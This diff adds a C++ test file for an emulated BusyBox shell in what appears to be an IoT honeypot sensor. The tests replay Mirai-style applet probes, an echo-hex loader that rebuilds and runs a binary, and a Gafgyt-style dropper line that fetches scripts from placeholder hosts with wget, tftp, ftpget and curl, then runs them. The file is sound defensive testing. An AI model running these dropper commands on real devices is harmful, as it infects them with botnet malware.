@@ -1,0 +1,155 @@
+#include "sensor/shell/emulated_shell.h"
+
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+
+#include "sensor/shell/command_line.h"
+
+namespace mitsu::sensor {
+namespace {
+
+DevicePersona camera() {
+  DevicePersona p;
+  p.name = "test-camera";
+  p.device_type = "camera";
+  p.vendor = "V";
+  p.model = "M";
+  p.arch = "arm";
+  p.hostname = "IPCAM";
+  return p;
+}
+
+class ShellTest : public ::testing::Test {
+ protected:
+  DevicePersona persona = camera();
+  EmulatedShell shell{persona, persona_filesystem(persona), 0};
+};
+
+TEST_F(ShellTest, BusyboxAppletProbeAsMiraiExpectsIt) {
+  EXPECT_EQ(shell.run("/bin/busybox ECCHI").output, "ECCHI: applet not found\n");
+  EXPECT_EQ(shell.run("busybox MIORI").output, "MIORI: applet not found\n");
+  EXPECT_EQ(shell.run("enable").output, "");
+  EXPECT_EQ(shell.run("system").output, "");
+  EXPECT_EQ(shell.run("shell").output, "");
+  EXPECT_EQ(shell.run("sh").output, "");
+  EXPECT_EQ(shell.run("foo").output, "-sh: foo: not found\n");
+  EXPECT_EQ(shell.run("busybox echo hi").output, "hi\n");
+}
+
+// Loaders read the ELF header of /bin/echo to choose the binary for this CPU.
+TEST_F(ShellTest, CatBinEchoShowsThePersonasCpu) {
+  for (auto [arch, machine, big_endian, elf_class] :
+       {std::tuple{"arm", 40, false, 1}, std::tuple{"mips", 8, true, 1},
+        std::tuple{"mipsel", 8, false, 1}, std::tuple{"aarch64", 183, false, 2}}) {
+    DevicePersona p = camera();
+    p.arch = arch;
+    EmulatedShell s(p, persona_filesystem(p), 0);
+    std::string out = s.run("cat /bin/echo").output;
+    ASSERT_GE(out.size(), 64u) << arch;
+    EXPECT_EQ(out.substr(0, 4), "\x7f"
+                                "ELF");
+    EXPECT_EQ(out[4], elf_class) << arch;
+    EXPECT_EQ(out[5], big_endian ? 2 : 1) << arch;
+    int e_machine = big_endian ? (static_cast<unsigned char>(out[18]) << 8) |
+                                     static_cast<unsigned char>(out[19])
+                               : static_cast<unsigned char>(out[18]) |
+                                     (static_cast<unsigned char>(out[19]) << 8);
+    EXPECT_EQ(e_machine, machine) << arch;
+  }
+}
+
+TEST_F(ShellTest, EchoLoaderReconstructsAFile) {
+  std::string original = std::string("\x7f" "ELF\x01\x01\x01\x00", 8) + "payload\xff\x00\x10";
+  shell.run("cd /tmp");
+  // In chunks, the way Mirai's loader sends them: \xNN for every byte.
+  for (std::size_t at = 0; at < original.size(); at += 5) {
+    std::string chunk;
+    for (std::size_t i = at; i < std::min(original.size(), at + 5); ++i) {
+      chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(original[i]));
+    }
+    auto out = shell.run(fmt::format("echo -ne '{}' {} .d", chunk, at == 0 ? ">" : ">>"));
+    EXPECT_EQ(out.output, "");
+  }
+  EXPECT_EQ(shell.run("chmod 777 .d").output, "");
+  auto run = shell.run("./.d");
+  ASSERT_EQ(run.executed.size(), 1u);
+  EXPECT_EQ(run.executed[0], "/tmp/.d");
+  const auto* node = shell.filesystem().find("/tmp/.d");
+  ASSERT_NE(node, nullptr);
+  EXPECT_EQ(node->content, original);
+  EXPECT_EQ(node->mode, 0777u);
+  auto files = shell.filesystem().attacker_files();
+  ASSERT_EQ(files.size(), 1u);
+  EXPECT_EQ(files[0].first, "/tmp/.d");
+  EXPECT_NE(shell.run("ls -la").output.find(".d"), std::string::npos);
+}
+
+TEST_F(ShellTest, GafgytStyleDropperAsksForDownloads) {
+  auto out = shell.run(
+      "cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh; "
+      "tftp -g -r tftp1.sh 192.0.2.7; busybox ftpget -u u -p p 192.0.2.7 f.sh f.sh; "
+      "curl -O https://example.com/x.arm");
+  ASSERT_EQ(out.downloads.size(), 4u);
+  EXPECT_EQ(out.downloads[0].url, "http://192.0.2.7/bins.sh");
+  EXPECT_EQ(out.downloads[0].local_path, "/tmp/bins.sh");
+  EXPECT_EQ(out.downloads[1].url, "tftp://192.0.2.7:69/tftp1.sh");
+  EXPECT_EQ(out.downloads[2].url, "ftp://u:p@192.0.2.7:21/f.sh");
+  EXPECT_EQ(out.downloads[3].local_path, "/tmp/x.arm");
+  // The file is not there until the download is delivered.
+  EXPECT_NE(out.output.find("chmod: bins.sh: No such file or directory"), std::string::npos)
+      << out.output;
+  shell.deliver("/tmp/bins.sh", "#!/bin/sh\nwget http://192.0.2.7/mips; ./mips\n");
+  auto second = shell.run("sh bins.sh");
+  ASSERT_EQ(second.downloads.size(), 1u) << "a script the attacker fetched runs in emulation";
+  EXPECT_EQ(second.downloads[0].url, "http://192.0.2.7/mips");
+}
+
+TEST_F(ShellTest, EchoAndPrintfEscapes) {
+  EXPECT_EQ(shell.run(R"(echo -e 'a\tb\x41\0101\c never')").output, "a\tbAA");
+  EXPECT_EQ(shell.run(R"(echo -n x; echo y)").output, "xy\n");
+  EXPECT_EQ(shell.run(R"(echo '\x41')").output, "\\x41\n");
+  EXPECT_EQ(shell.run(R"(printf '%s-%d\n' a 7)").output, "a-7\n");
+  EXPECT_EQ(shell.run(R"(printf '\101\x42\n')").output, "AB\n");
+  EXPECT_EQ(shell.run(R"(printf '%s\n' a b)").output, "a\nb\n");
+}
+
+TEST_F(ShellTest, ListsRedirectionsAndErrors) {
+  EXPECT_EQ(shell.run("cat /nope").output, "cat: can't open '/nope': No such file or directory\n");
+  EXPECT_EQ(shell.run("cat /nope 2>/dev/null").output, "");
+  EXPECT_EQ(shell.run("cd /nope").output,
+            "-sh: cd: can't cd to /nope: No such file or directory\n");
+  EXPECT_EQ(shell.run("false && echo no || echo yes").output, "yes\n");
+  EXPECT_EQ(shell.run("echo a > /nodir/x").output, "-sh: can't create /nodir/x: nonexistent directory\n");
+  EXPECT_EQ(shell.run("cat /proc/cpuinfo | grep model").output,
+            "model name\t: ARMv7 Processor rev 5 (v7l)\n");
+  EXPECT_EQ(shell.run("uname -m").output, "armv7l\n");
+  EXPECT_EQ(shell.run("echo 'x").output, "sh: syntax error: unterminated quoted string\n");
+  EXPECT_TRUE(shell.run("exit").exit);
+}
+
+TEST_F(ShellTest, DdAndHeadReadBinaryHeaders) {
+  auto out = shell.run("dd if=/bin/busybox bs=52 count=1");
+  EXPECT_EQ(out.output.substr(0, 4), "\x7f"
+                                     "ELF");
+  EXPECT_NE(out.output.find("1+0 records in\n1+0 records out\n"), std::string::npos);
+  EXPECT_EQ(shell.run("head -c 4 /bin/busybox").output, "\x7f"
+                                                        "ELF");
+}
+
+TEST_F(ShellTest, SessionWritesAreCapped) {
+  std::string big(60'000, 'A');  // under the 64 KiB line limit
+  std::string last;
+  for (int i = 0; i < 300; ++i) {
+    last = shell.run("echo " + big + " >> /tmp/big").output;
+  }
+  EXPECT_NE(last.find("No space left on device"), std::string::npos);
+}
+
+TEST_F(ShellTest, ScriptsCannotRecurseForever) {
+  shell.run("echo 'sh /tmp/loop.sh' > /tmp/loop.sh");
+  auto out = shell.run("sh /tmp/loop.sh");
+  EXPECT_FALSE(out.exit);
+}
+
+}  // namespace
+}  // namespace mitsu::sensor
